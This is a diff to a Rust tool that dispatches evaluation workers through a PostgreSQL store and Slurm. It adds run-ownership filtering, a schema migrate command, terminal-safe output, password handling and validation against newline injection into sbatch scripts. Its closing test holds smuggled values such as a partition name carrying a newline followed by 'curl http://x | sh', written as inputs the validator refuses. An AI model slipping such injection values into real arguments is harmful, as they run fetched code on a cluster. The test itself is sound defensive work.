@@ -18,9 +18,14 @@ pub struct WorkerArgs {
     /// The lab store (`postgres://user@host:port/db`; the password from PGPASSWORD or ~/.pgpass).
     #[arg(long)]
     store: String,
-    /// The run to work on (default: every running run with samples left, oldest first).
+    /// The run to work on (default: every running run of yours with samples left, oldest
+    /// first).
     #[arg(long)]
     run: Option<String>,
+    /// Without --run: also take other members' runs (they choose the models your keys pay
+    /// for, and the code your machine runs).
+    #[arg(long, conflicts_with = "run")]
+    any_run: bool,
     /// Samples this worker runs at once (default: the run's concurrency).
     #[arg(long)]
     concurrency: Option<usize>,
@@ -80,6 +85,16 @@ pub enum StoreCmd {
         #[arg(long)]
         json: bool,
     },
+    /// Migrate a lab store's schema to this Crucible's (a shared schema never changes by
+    /// itself; every member then needs this version or newer).
+    Migrate {
+        /// The lab store (`postgres://user@host:port/db`).
+        #[arg(long)]
+        store: String,
+        /// Print JSON.
+        #[arg(long)]
+        json: bool,
+    },
     /// Bring a run from a lab store into the local database, for review offline.
     Pull {
         /// The run.
@@ -127,6 +142,7 @@ async fn open_lab(url: &str, what: &str) -> Result<AnyStore> {
 pub async fn worker(config: &Config, a: WorkerArgs) -> Result<()> {
     let store = open_lab(&a.store, "crucible worker").await?;
     let lab = store.lab("crucible worker")?.clone();
+    let me = lab.session_user().await?;
     let mut ctx = RunContext::new(
         config.clone(),
         store.clone(),
@@ -163,10 +179,14 @@ pub async fn worker(config: &Config, a: WorkerArgs) -> Result<()> {
             Some(r) if seen.is_empty() => r.clone(),
             Some(_) => break,
             None => {
-                // The oldest running run with samples left that this worker has not left.
+                // The oldest running run with samples left that this worker has not left: the
+                // caller's own, unless --any-run.
                 let mut next = None;
                 for id in store.run_ids().await? {
                     if seen.contains(&id) || store.run(&id).await?.status != "running" {
+                        continue;
+                    }
+                    if !a.any_run && lab.run_owner(&id).await?.0 != me {
                         continue;
                     }
                     if lab.queue_state(&id).await?.open > 0 {
@@ -208,7 +228,16 @@ pub async fn worker(config: &Config, a: WorkerArgs) -> Result<()> {
     if a.json {
         out!("{}", serde_json::to_string_pretty(&reports)?);
     } else if reports.is_empty() {
-        out!("no running run has samples left in {}", store.location());
+        if a.any_run || a.run.is_some() {
+            out!("no running run has samples left in {}", store.location());
+        } else {
+            out!(
+                "no running run of yours ({}) has samples left in {} (--any-run takes other \
+                 members' runs too)",
+                crucible_store::terminal_safe(&me),
+                store.location()
+            );
+        }
     }
     store.close().await;
     Ok(())
@@ -238,18 +267,21 @@ pub async fn workers(cmd: WorkersCmd) -> Result<()> {
                     queue.open,
                     queue.given_up
                 );
+                // Every text here was written by some worker (or by hand): shown without the
+                // control characters a terminal would act on.
+                let safe = crucible_store::terminal_safe;
                 for w in &rows {
                     out!(
                         "worker {:<4} {:<8} {:<20} pid {:<8} slurm {:<10} claimed {:<5} stored {:<5} last heard {} s ago{}",
                         w.id,
-                        w.state,
-                        w.host,
+                        safe(&w.state),
+                        safe(&w.host),
                         w.pid,
-                        w.slurm_job.as_deref().unwrap_or("-"),
+                        safe(w.slurm_job.as_deref().unwrap_or("-")),
                         w.claimed,
                         w.finished,
                         w.silent_s,
-                        w.error.as_ref().map(|e| format!(" ({e})")).unwrap_or_default()
+                        w.error.as_ref().map(|e| format!(" ({})", safe(e))).unwrap_or_default()
                     );
                 }
             }
@@ -259,22 +291,51 @@ pub async fn workers(cmd: WorkersCmd) -> Result<()> {
     Ok(())
 }
 
-/// `crucible store push|pull|local-server`.
+/// `crucible store push|pull|migrate|local-server`.
 pub async fn store(config: &Config, cmd: StoreCmd) -> Result<()> {
     let (run_id, local, remote, push, json) = match cmd {
         StoreCmd::LocalServer { json } => {
             let server = crucible_store::LocalServer::start()?;
             let url = server.fresh_database().await?;
             if json {
-                out!("{}", json!({"url": url}));
+                out!(
+                    "{}",
+                    json!({"url": url, "socket_dir": server.socket_dir().display().to_string()})
+                );
             } else {
                 out!("{url}");
                 eprintln!(
                     "a throwaway PostgreSQL server runs until this command stops (Ctrl-C); \
-                     its data goes with it"
+                     its data goes with it. It listens on no TCP port: only this user reaches \
+                     its socket in {}, and the password is in the URL above (keep it to \
+                     yourself)",
+                    server.socket_dir().display()
                 );
             }
             tokio::signal::ctrl_c().await?;
+            return Ok(());
+        }
+        StoreCmd::Migrate { store, json } => {
+            if !matches!(StoreUrl::parse(&store)?, StoreUrl::Lab(_)) {
+                bail!(
+                    "crucible store migrate is for a lab store (postgres://…); an SQLite file \
+                     is migrated when it is opened"
+                );
+            }
+            let (from, to) = crucible_store::PgStore::migrate(&store, None).await?;
+            let shown = crucible_store::redact_url(&store);
+            if json {
+                out!(
+                    "{}",
+                    serde_json::to_string_pretty(
+                        &json!({"store": shown, "schema_before": from, "schema": to})
+                    )?
+                );
+            } else if from == to {
+                out!("{shown} already has schema version {to}");
+            } else {
+                out!("migrated {shown} from schema version {from} to {to}");
+            }
             return Ok(());
         }
         StoreCmd::Push {
@@ -363,14 +424,52 @@ fn quoted(s: &str) -> String {
     format!("'{}'", s.replace('\'', r"'\''"))
 }
 
+/// Refuses `--partition` and `--sbatch-arg` values that would add lines to the batch script (a
+/// newline ends an `#SBATCH` line, and everything after it runs as shell): no control
+/// characters at all, and an `--sbatch-arg` must be one option (`--time=1:00:00`).
+pub fn check_slurm_args(partition: Option<&str>, sbatch_args: &[String]) -> Result<()> {
+    let bad = |s: &str| s.chars().any(char::is_control);
+    if let Some(p) = partition {
+        if bad(p) || p.trim().is_empty() || p.chars().any(char::is_whitespace) {
+            bail!(
+                "--partition {:?} is not a partition name (no spaces, newlines or control \
+                 characters)",
+                p
+            );
+        }
+    }
+    for a in sbatch_args {
+        if bad(a) || !a.starts_with('-') {
+            bail!(
+                "--sbatch-arg {:?} is not one sbatch option: give each as --sbatch-arg=--time=1:00:00, \
+                 without newlines or control characters",
+                a
+            );
+        }
+    }
+    Ok(())
+}
+
 impl SlurmJob {
-    /// The batch script.
+    /// Refuses what cannot be written into the script safely ([`check_slurm_args`], a log
+    /// folder with control characters or a double quote).
+    pub fn check(&self) -> Result<()> {
+        check_slurm_args(self.partition.as_deref(), &self.sbatch_args)?;
+        let dir = self.log_dir.display().to_string();
+        if dir.chars().any(|c| c.is_control() || c == '"') {
+            bail!("the Slurm log folder {dir:?} holds a control character or a double quote; set another data folder");
+        }
+        Ok(())
+    }
+
+    /// The batch script. Call [`SlurmJob::check`] first.
     pub fn script(&self, crucible: &Path) -> String {
         let mut s = String::from("#!/bin/bash\n");
         s.push_str(&format!("#SBATCH --job-name=crucible-{}\n", self.run_id));
         s.push_str(&format!("#SBATCH --array=0-{}\n", self.workers.max(1) - 1));
+        // Quoted: sbatch reads `#SBATCH` lines with quotes, so a folder with spaces is one path.
         s.push_str(&format!(
-            "#SBATCH --output={}\n",
+            "#SBATCH --output=\"{}\"\n",
             self.log_dir.join("worker-%A_%a.out").display()
         ));
         if let Some(p) = &self.partition {
@@ -398,11 +497,21 @@ impl SlurmJob {
     }
 
     /// Submits the script with `sbatch`; returns the job id.
+    /// A password in the store URL goes to the tasks as `PGPASSWORD` in sbatch's environment
+    /// (which sbatch exports to them), never into the script or a command line.
     pub fn submit(&self, crucible: &Path) -> Result<String> {
         use std::io::Write;
+        self.check()?;
         std::fs::create_dir_all(&self.log_dir)
             .with_context(|| format!("creating {}", self.log_dir.display()))?;
-        let mut child = std::process::Command::new("sbatch")
+        let mut sbatch = std::process::Command::new("sbatch");
+        if let (Some(pw), None) = (
+            crucible_store::split_url_password(&self.store).1,
+            std::env::var_os("PGPASSWORD"),
+        ) {
+            sbatch.env("PGPASSWORD", pw);
+        }
+        let mut child = sbatch
             .arg("--parsable")
             .stdin(std::process::Stdio::piped())
             .stdout(std::process::Stdio::piped())
@@ -458,7 +567,7 @@ mod tests {
             "{s}"
         );
         assert!(
-            s.contains("#SBATCH --output=/data/slurm/worker-%A_%a.out\n"),
+            s.contains("#SBATCH --output=\"/data/slurm/worker-%A_%a.out\"\n"),
             "{s}"
         );
         assert!(
@@ -467,5 +576,39 @@ mod tests {
         );
         assert!(s.contains("exec '/opt/crucible/bin/crucible' worker --store 'postgres://ada@db:5432/lab' --run 'run-1' --concurrency 4\n"), "{s}");
         assert!(!s.contains("s3cret"), "{s}");
+    }
+
+    #[test]
+    fn a_newline_in_a_slurm_argument_is_refused_not_written_into_the_script() {
+        let job = |partition: &str, arg: &str| SlurmJob {
+            run_id: "run-1".into(),
+            store: "postgres://ada@db/lab".into(),
+            workers: 1,
+            partition: Some(partition.into()),
+            sbatch_args: vec![arg.into()],
+            concurrency: None,
+            log_dir: "/data/slurm".into(),
+        };
+        assert!(job("gpu", "--time=1:00:00").check().is_ok());
+        for (p, a) in [
+            ("debug\ncurl http://x | sh #", "--time=1:00:00"),
+            ("gpu", "--time=1:00:00\ncurl http://x | sh"),
+            ("gpu", "--time=1\r"),
+            ("gpu", "curl"),
+            ("gpu debug", "--time=1"),
+        ] {
+            let e = job(p, a).check().unwrap_err().to_string();
+            assert!(
+                e.contains("--partition") || e.contains("--sbatch-arg"),
+                "{e}"
+            );
+        }
+        let mut spaced = job("gpu", "--time=1");
+        spaced.log_dir = "/data/my runs/slurm".into();
+        assert!(spaced
+            .script(Path::new("/c"))
+            .contains("#SBATCH --output=\"/data/my runs/slurm/worker-%A_%a.out\"\n"));
+        spaced.log_dir = "/data/x\ny".into();
+        assert!(spaced.check().is_err());
     }
 }
